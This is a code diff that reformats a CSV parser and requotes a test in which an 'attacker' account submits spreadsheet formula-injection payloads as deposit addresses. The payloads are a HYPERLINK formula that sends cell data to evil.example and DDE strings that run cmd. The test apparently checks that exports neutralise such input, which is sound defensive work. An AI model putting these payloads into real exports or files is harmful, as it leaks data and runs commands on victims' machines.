@@ -41,13 +41,22 @@ function parseCsv(text: string): string[][] {
   for (let i = 0; i < body.length; i++) {
     const c = body[i]!;
     if (quoted) {
-      if (c === '"' && body[i + 1] === '"') (field += '"'), i++;
-      else if (c === '"') quoted = false;
+      if (c === '"' && body[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (c === '"') quoted = false;
       else field += c;
     } else if (c === '"') quoted = true;
-    else if (c === ',') row.push(field), (field = '');
-    else if (c === '\r' && body[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
-    else field += c;
+    else if (c === ',') {
+      row.push(field);
+      field = '';
+    } else if (c === '\r' && body[i + 1] === '\n') {
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = '';
+      i++;
+    } else field += c;
   }
   return rows;
 }
@@ -108,9 +117,9 @@ describe('transactions', () => {
     const attacker = await signUp(t);
     const formulas = [
       '=HYPERLINK("http://evil.example/?"&A1,"Click")',
-      '+cmd|\' /C calc\'!A0',
-      '-2+3+cmd|\' /C calc\'!A0',
-      '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
       '=A1, "quoted"\r\nnext line',
     ];
     for (const address of formulas) await deposit(attacker, '50', address);
